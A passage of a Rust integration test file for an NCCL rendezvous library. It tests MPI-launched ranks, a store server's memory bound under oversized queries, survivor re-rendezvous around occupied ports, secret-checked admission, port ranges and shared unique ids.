    // a port from the pid of Hydra's proxy, every rank's parent)
    let port = free_addr().rsplit_once(':').unwrap().1.to_string();
    let master = [
        "-genv".to_string(),
        "MASTER_ADDR".into(),
        "127.0.0.1".into(),
        "-genv".into(),
        "MASTER_PORT".into(),
        port,
    ];
    for extra in [&master[..], &[]] {
        let mut c = Command::new(mpiexec);
        // the ranks get only what is given here (no MASTER_* or launcher
        // variables of the environment the tests run in)
        c.env_clear();
        if let Some(p) = std::env::var_os("PATH") {
            c.env("PATH", p);
        }
        // on this host only, without ssh
        c.args(["-launcher", "fork", "-n", "3"]).args(extra).args([
            "-genv",
            "NCCL_RS_SECRET",
            "mpi-test-0123456789",
        ]);
        if let Some(l) = std::env::var_os("LD_LIBRARY_PATH") {
            c.arg("-genv").arg("LD_LIBRARY_PATH").arg(l);
        }
        c.args([PEER, "--launcher", "30000"]);
        launched_ranks_meet(c, "Pmi");
    }
}

// ---------------------------------------------------------------- store memory

/// `VmRSS` or `VmHWM` (peak) of process `pid`, in bytes.
fn mem_of(pid: u32, field: &str) -> usize {
    let s = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    s.lines()
        .find_map(|l| l.strip_prefix(field).and_then(|v| v.strip_prefix(':')))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<usize>().ok())
        .map_or(0, |kb| kb << 10)
}

/// A `TcpStoreServer` in a process of its own, its heap limited to
/// `data_mb` (past it the server dies rather than take the machine's
/// memory); the process and its address.
fn store_process(data_mb: u64) -> (Child, String) {
    let mut c = Command::new(PEER)
        .args(["--store-server", "127.0.0.1:0", &data_mb.to_string()])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(c.stdout.as_mut().unwrap())
        .read_line(&mut line)
        .unwrap();
    let addr = line
        .strip_prefix("LISTEN ")
        .unwrap_or_else(|| panic!("{line}"))
        .trim()
        .to_string();
    (c, addr)
}

/// A raw, validated connection to a store.
fn validated(addr: &str) -> TcpStream {
    let mut s = TcpStream::connect(addr)
        .unwrap_or_else(|e| panic!("the store is gone (did it run out of memory?): {e}"));
    let mut q = vec![0u8];
    q.extend_from_slice(&0x3C85_F7CEu32.to_le_bytes());
    s.write_all(&q).unwrap();
    s
}

fn put(q: &mut Vec<u8>, b: &[u8]) {
    q.extend_from_slice(&(b.len() as u64).to_le_bytes());
    q.extend_from_slice(b);
}

/// A query of `op` over `keys` (`WAIT`, `MULTI_GET`, `CHECK`).
fn keys_query(op: u8, keys: &[Vec<u8>]) -> Vec<u8> {
    let mut q = vec![op];
    q.extend_from_slice(&(keys.len() as u64).to_le_bytes());
    for k in keys {
        put(&mut q, k);
    }
    q
}

/// Writes `q` as far as the peer takes it within a second (a server that
/// closed the connection takes no more).
fn shove(s: &mut TcpStream, q: &[u8]) {
    s.set_write_timeout(Some(Duration::from_secs(1))).unwrap();
    let _ = s.write_all(q);
}

#[test]
fn the_store_servers_memory_is_bounded_whatever_its_clients_ask() {
    // 1 GiB of heap at most: today's limits are far below; a server that
    // builds answers or wait lists without bound dies there
    let (mut server, addr) = store_process(1024);
    let pid = server.id();
    std::thread::sleep(Duration::from_millis(200));
    let base = mem_of(pid, "VmRSS");
    // 1. a 1 MiB value, then six MULTI_GETs of 1024 times its key in one
    //    segment, never read: 6 GiB of answers if they were built
    let mut s = validated(&addr);
    let mut q = vec![1u8];
    put(&mut q, b"/k");
    put(&mut q, &vec![7u8; 1 << 20]);
    for _ in 0..6 {
        q.extend(keys_query(10, &vec![b"/k".to_vec(); 1024]));
    }
    shove(&mut s, &q);
    // 2. WAITs on fresh 4 KiB keys, 1024 a query, in a loop on one
    //    connection, and one such WAIT on each of 100 more connections
    let fresh = |i: usize| -> Vec<Vec<u8>> {
        (0..1024)
            .map(|j| {
                let mut k = format!("/{i}/{j}/").into_bytes();
                k.resize(4000, b'x');
                k
            })
            .collect()
    };
    let mut w = validated(&addr);
    for i in 0..50 {
        shove(&mut w, &keys_query(6, &fresh(i)));
    }
    let mut many = Vec::new();
    for i in 0..100 {
        let mut c = validated(&addr);
        shove(&mut c, &keys_query(6, &fresh(1000 + i)));
        many.push(c);
    }
    std::thread::sleep(Duration::from_millis(500));
    let alive = matches!(server.try_wait(), Ok(None));
    let peak = mem_of(pid, "VmHWM");
    // the store still serves a real client
    let served = alive && {
        let mut c = TcpStore::connect(&addr, Duration::from_secs(5)).unwrap();
        c.get("k").map(|v| v.len()).ok() == Some(1 << 20)
    };
    drop(server.stdin.take());
    let _ = server.kill();
    let o = server.wait_with_output().unwrap();
    assert!(
        alive,
        "the server died (ran out of its 1 GiB): {}",
        String::from_utf8_lossy(&o.stderr)
    );
    let grew = peak.saturating_sub(base);
    let budget = nccl::bootstrap::MAX_CLIENT_BYTES + (64 << 20);
    assert!(
        grew < budget,
        "the server grew by {} MiB (bound {} MiB)",
        grew >> 20,
        budget >> 20
    );
    assert!(served, "the server no longer serves");
    drop((s, w, many));
}

// ---------------------------------------------------------------- survivors

/// `rendezvous-peer --survivors LOST 1 TIMEOUT` with exactly these variables.
fn survivor(env: &[(&str, String)], lost: &str) -> Child {
    let mut c = Command::new(PEER);
    c.args(["--survivors", lost, "1", "40000"])
        .env_clear()
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    for k in ["PATH", "LD_LIBRARY_PATH"] {
        if let Some(v) = std::env::var_os(k) {
            c.env(k, v);
        }
    }
    for (k, v) in env {
        c.env(k, v);
    }
    c.spawn().unwrap()
}

/// The `NEW r/w` and `IDS …` lines of finished survivors.
fn survivors_out(kids: Vec<Child>) -> Vec<(String, String)> {
    kids.into_iter()
        .map(|k| {
            let o = out(k.wait_with_output().unwrap());
            let new = o.lines().find(|l| l.starts_with("NEW ")).unwrap_or("");
            let ids = o.lines().last().unwrap_or("");
            (new.to_string(), ids.to_string())
        })
        .collect()
}

#[test]
fn survivors_meet_though_the_ports_after_the_jobs_own_are_taken() {
    // the job's port P is held by a listener that never answers, P + 1 by
    // an echo service (whose answers pass the magic check), P + 2 by one
    // that answers garbage: the survivors' rank 0 listens further on, and
    // the others find it
    let (silent, echo, garbage, port) = loop {
        let a = TcpListener::bind("127.0.0.1:0").unwrap();
        let p = a.local_addr().unwrap().port();
        if p > 65000 {
            continue;
        }
        if let (Ok(b), Ok(c)) = (
            TcpListener::bind(("127.0.0.1", p + 1)),
            TcpListener::bind(("127.0.0.1", p + 2)),
        ) {
            break (a, b, c, p);
        }
    };
    std::thread::spawn(move || {
        for s in echo.incoming() {
            let Ok(mut s) = s else { break };
            std::thread::spawn(move || {
                let mut r = s.try_clone().unwrap();
                let _ = std::io::copy(&mut r, &mut s);
            });
        }
    });
    std::thread::spawn(move || {
        for s in garbage.incoming() {
            let Ok(mut s) = s else { break };
            let _ = s.write_all(b"HTTP/1.1 400 Bad Request\r\nConnection: close\r\n\r\n");
        }
    });
    let t = Instant::now();
    for (lost, old) in [("1", [0, 2, 3]), ("0", [1, 2, 3])] {
        let kids: Vec<Child> = old
            .iter()
            .map(|r| {
                survivor(
                    &[
                        ("RANK", r.to_string()),
                        ("LOCAL_RANK", r.to_string()),
                        ("WORLD_SIZE", "4".into()),
                        ("MASTER_ADDR", "127.0.0.1".into()),
                        ("MASTER_PORT", port.to_string()),
                        ("NCCL_RS_SECRET", "survivors-secret-0123".into()),
                    ],
                    lost,
                )
            })
            .collect();
        let outs = survivors_out(kids);
        for (i, (new, _)) in outs.iter().enumerate() {
            assert_eq!(new, &format!("NEW {i}/3"), "lost {lost}: {outs:?}");
        }
        assert!(
            outs[0].1.starts_with("IDS ") && outs.iter().all(|o| o.1 == outs[0].1),
            "lost {lost}: {outs:?}"
        );
    }
    assert!(t.elapsed() < Duration::from_secs(40), "{:?}", t.elapsed());
    drop(silent);
}

#[test]
fn survivors_meet_in_the_jobs_store_under_a_fresh_key() {
    let server = TcpStoreServer::bind("127.0.0.1:0").unwrap();
    let addr = server.local_addr().to_string();
    // the first rendezvous's id is still there
    let mut c = TcpStore::connect(&addr, Duration::from_secs(5)).unwrap();
    let first = UniqueId::new().unwrap();
    c.set("nccl-rs/r9/0/uid", first.as_bytes()).unwrap();
    let kids: Vec<Child> = [0, 1, 3]
        .iter()
        .map(|r| {
            survivor(
                &[
                    ("NCCL_RS_RANK", r.to_string()),
                    ("NCCL_RS_WORLD_SIZE", "4".into()),
                    ("NCCL_RS_STORE", addr.clone()),
                    ("NCCL_RS_RUN_ID", "r9".into()),
                ],
                "2",
            )
        })
        .collect();
    let outs = survivors_out(kids);
    for (i, (new, _)) in outs.iter().enumerate() {
        assert_eq!(new, &format!("NEW {i}/3"), "{outs:?}");
    }
    let ids = &outs[0].1;
    assert!(
        ids.starts_with("IDS ") && outs.iter().all(|o| &o.1 == ids),
        "{outs:?}"
    );
    assert_ne!(ids, &format!("IDS {first}"));
    assert_eq!(
        c.get("nccl-rs/r9/0/uid").unwrap(),
        first.as_bytes(),
        "the first key is left alone"
    );
}

// ---------------------------------------------------------------- bounds

#[test]
fn a_refused_thread_is_a_typed_error_not_a_panic() {
    let o = Command::new(PEER).arg("--no-threads").output().unwrap();
    let stdout = String::from_utf8_lossy(&o.stdout);
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{stdout}\n{stderr}");
    assert!(
        stdout.contains("LOOKUP Err(Store") && stdout.contains("no thread for the lookup"),
        "{stdout}"
    );
    assert!(
        stdout.contains("SERVER Err(Store") && stdout.contains("cannot start its thread"),
        "{stdout}"
    );
}

#[test]
fn a_huge_slurm_hostlist_is_refused_in_few_words() {
    let long = format!("{}[0-1048575]", "x".repeat(130_000));
    let mut env = SRUN.to_vec();
    env.retain(|(k, _)| !k.ends_with("NODELIST"));
    env.push(("SLURM_STEP_NODELIST", &long));
    match vars(&env) {
        Err(Error::LaunchEnv { var, problem }) => {
            assert_eq!(var, "SLURM_STEP_NODELIST");
            assert!(problem.contains("longer than 255"), "{problem}");
            assert!(problem.len() < 400, "{} bytes of error", problem.len());
        }
        other => panic!("{:?}", other.map(|i| i.rank)),
    }
}

// ------------------------------------------------- secrets, ranges, stores

/// `Secret::from_env` reads `NCCL_RS_SECRET` as bytes (not UTF-8 too); an
/// unset variable is `None`, an empty one an empty secret. In child
/// processes, so that this process's environment is left alone.
#[test]
fn secret_from_env_takes_the_variables_bytes() {
    if std::env::var_os("NCCL_RS_TEST_SECRET_CHILD").is_some() {
        match Secret::from_env() {
            None => println!("SECRET none"),
            Some(s) => {
                let hex: String = s.expose().iter().map(|b| format!("{b:02x}")).collect();
                println!("SECRET len={} empty={} hex={hex}", s.len(), s.is_empty());
            }
        }
        return;
    }
    let child = |value: Option<&[u8]>| {
        let mut c = Command::new(std::env::current_exe().unwrap());
        c.args([
            "--exact",
            "secret_from_env_takes_the_variables_bytes",
            "--nocapture",
        ])
        .env("NCCL_RS_TEST_SECRET_CHILD", "1");
        match value {
            Some(v) => c.env("NCCL_RS_SECRET", OsString::from_vec(v.to_vec())),
            None => c.env_remove("NCCL_RS_SECRET"),
        };
        let o = c.output().unwrap();
        let text = String::from_utf8_lossy(&o.stdout).to_string();
        assert!(o.status.success(), "{text}");
        text.lines()
            .find(|l| l.starts_with("SECRET "))
            .unwrap_or_else(|| panic!("no SECRET line in {text}"))
            .to_string()
    };
    assert_eq!(
        child(Some(&[0xff, b'a', 1, 0x80])),
        "SECRET len=4 empty=false hex=ff610180"
    );
    assert_eq!(child(Some(b"")), "SECRET len=0 empty=true hex=");
    assert_eq!(child(None), "SECRET none");
    // the same accessors on secrets made here
    let s = Secret::from(vec![1u8, 2, 3]);
    assert_eq!(
        (s.expose(), s.len(), s.is_empty()),
        (&[1u8, 2, 3][..], 3, false)
    );
    let e = Secret::from("");
    assert_eq!((e.expose(), e.len(), e.is_empty()), (&[][..], 0, true));
}

/// `TcpBootstrap::with_secret`: rank 0 made with a `Secret` admits only a
/// peer holding the same bytes; a short secret is refused before anything
/// listens.
#[test]
fn with_secret_admits_only_the_holder_of_the_secret() {
    let bytes = b"\xffwith-secret-0123456789".to_vec();
    match TcpBootstrap::with_secret(
        "127.0.0.1:0",
        0,
        2,
        Some(Secret::from(&bytes[..8])),
        Duration::from_secs(1),
    ) {
        Err(Error::InvalidArgument {
            op: "TcpBootstrap::new",
            arg: "secret",
            actual,
            ..
        }) => assert_eq!(actual, "8 bytes"),
        other => panic!("{other:?}"),
    }
    let mut b = TcpBootstrap::with_secret(
        "127.0.0.1:0",
        0,
        2,
        Some(Secret::from(bytes.clone())),
        Duration::from_secs(10),
    )
    .unwrap();
    let addr = b.listen().unwrap().to_string();
    let h = std::thread::spawn(move || b.share_ids(Some(vec![UniqueId::new()?])));
    let wrong = ids_of(peer_secret(
        &addr,
        1,
        2,
        b"\xfewith-secret-0123456789",
        5000,
        1,
    ));
    assert!(
        wrong.starts_with("ERR Rendezvous") && wrong.contains("did not accept our proof"),
        "{wrong}"
    );
    let right = ids_of(peer_secret(&addr, 1, 2, &bytes, 5000, 1));
    let ids = h.join().unwrap().unwrap();
    assert_eq!(right, format!("IDS {}", ids[0]));
}

/// A loopback port `p` held by the listener returned, with `p + 1` and
/// `p + 2` free when looked at.
fn held_port_before_two_free() -> (TcpListener, u16) {
    for _ in 0..100 {
        let holder = TcpListener::bind("127.0.0.1:0").unwrap();
        let p = holder.local_addr().unwrap().port();
        if p < 65000
            && TcpListener::bind(("127.0.0.1", p + 1)).is_ok()
            && TcpListener::bind(("127.0.0.1", p + 2)).is_ok()
        {
            return (holder, p);
        }
    }
    panic!("no loopback port with two free ones after it");
}

/// `port_range(n)`: rank 0 takes the first free port of the `n` from
/// `addr`'s and no other (all `n` in use is `AddrInUse` naming the range);
/// another rank with the same range finds it there.
#[test]
fn port_range_moves_to_the_next_free_port_and_no_further() {
    const SECRET: &[u8] = b"range-secret-0123456789";
    let secret = || Some(Secret::from(SECRET));
    let (holder, p) = held_port_before_two_free();
    let addr = format!("127.0.0.1:{p}");
    let rank0 = |tries: u16| {
        TcpBootstrap::with_secret(&addr, 0, 2, secret(), Duration::from_secs(15))
            .unwrap()
            .port_range(tries)
    };
    // p and p + 1 in use: a range of 2 does not go on to the free p + 2
    let next = TcpListener::bind(("127.0.0.1", p + 1)).unwrap();
    match rank0(2).listen() {
        Err(Error::AddrInUse { addr: a }) => assert_eq!(a, format!("127.0.0.1:{p}-{}", p + 1)),
        other => panic!("{other:?}"),
    }
    // without a range (and port_range(0), taken as 1), only p
    for tries in [1, 0] {
        match rank0(tries).listen() {
            Err(Error::AddrInUse { addr: a }) => assert_eq!(a, addr),
            other => panic!("{tries}: {other:?}"),
        }
    }
    drop(next);
    let mut b = rank0(3);
    // p + 1, unless another test took it meanwhile: then p + 2
    let got = b.listen().unwrap().port();
    assert!(got == p + 1 || got == p + 2, "{got} for {p}");
    let h = std::thread::spawn(move || b.share_ids(Some(vec![UniqueId::new()?])));
    // nothing listens at p now: a rank without the range does not find rank 0
    drop(holder);
    let alone = TcpBootstrap::with_secret(&addr, 1, 2, secret(), Duration::from_millis(1200))
        .unwrap()
        .share_ids(None);
    assert!(alone.is_err(), "{alone:?}");
    // with it, rank 1 tries p, then meets rank 0 at p + 1
    let got = TcpBootstrap::with_secret(&addr, 1, 2, secret(), Duration::from_secs(10))
        .unwrap()
        .port_range(3)
        .share_ids(None)
        .unwrap();
    assert_eq!(got, h.join().unwrap().unwrap());
}

/// `StoreBootstrap::share_n_ids` gives every rank the same several ids;
/// `key` and `store` are the ones it was made with; `TcpStore::addr` and
/// `timeout` are what `connect` and `set_timeout` were given, and the
/// timeout is each operation's deadline.
#[test]
fn store_bootstrap_shares_several_ids_and_lends_its_store() {
    let server = TcpStoreServer::bind("127.0.0.1:0").unwrap();
    let addr = server.local_addr().to_string();
    let key = nccl::bootstrap::store_id_key("run9", "0");
    let ids: Vec<UniqueId> = (0..3).map(|_| UniqueId::new().unwrap()).collect();
    assert!(ids[0] != ids[1] && ids[1] != ids[2], "{ids:?}");
    let handles: Vec<_> = (0..3)
        .map(|r| {
            let (addr, key) = (addr.clone(), key.clone());
            let mine = (r == 0).then(|| ids.clone());
            std::thread::spawn(move || {
                let s = TcpStore::connect(&addr, Duration::from_secs(7))?;
                assert_eq!(
                    (s.addr(), s.timeout()),
                    (addr.as_str(), Duration::from_secs(7))
                );
                let mut b = StoreBootstrap::new(s, r, 3, &key)?;
                assert_eq!(b.key(), key);
                let got = b.share_n_ids(3, mine)?;
                // the same connection, for a key of the caller's own
                b.store().add("joined", 1)?;
                Ok::<_, Error>(got)
            })
        })
        .collect();
    for h in handles {
        assert_eq!(h.join().unwrap().unwrap(), ids);
    }
    let c = TcpStore::connect(&addr, Duration::from_secs(5)).unwrap();
    let mut b = StoreBootstrap::new(c, 1, 3, &key).unwrap();
    assert_eq!(b.store().add("joined", 0).unwrap(), 3);
    assert_eq!(b.store().get(&key).unwrap().len(), 3 * 128);
    // a count that is not what rank 0 stored, or none, or a wrong-sized list
    assert!(matches!(
        b.share_n_ids(2, None),
        Err(Error::InvalidUniqueId { .. })
    ));
    assert!(matches!(
        b.share_n_ids(0, None),
        Err(Error::InvalidArgument { arg: "n", .. })
    ));
    let c0 = TcpStore::connect(&addr, Duration::from_secs(5)).unwrap();
    let mut b0 = StoreBootstrap::new(c0, 0, 3, "nccl-rs/other/0/uid").unwrap();
    assert!(matches!(
        b0.share_n_ids(2, Some(ids.clone())),
        Err(Error::InvalidArgument {
            arg: "ids.len()",
            ..
        })
    ));
    // the timeout is the deadline of the store's next operation
    b.store().set_timeout(Duration::from_millis(400));
    assert_eq!(b.store().timeout(), Duration::from_millis(400));
    let t = Instant::now();
    match b.store().wait(&["never-set"]) {
        Err(Error::Store { addr: a, op, .. }) => {
            assert_eq!((a.as_str(), op.as_str()), (addr.as_str(), "wait"))
        }
        other => panic!("{other:?}"),
    }
    let took = t.elapsed();
    assert!(
        took >= Duration::from_millis(300) && took < Duration::from_secs(3),
        "{took:?}"
    );
    assert_eq!(b.store().addr(), addr);
}
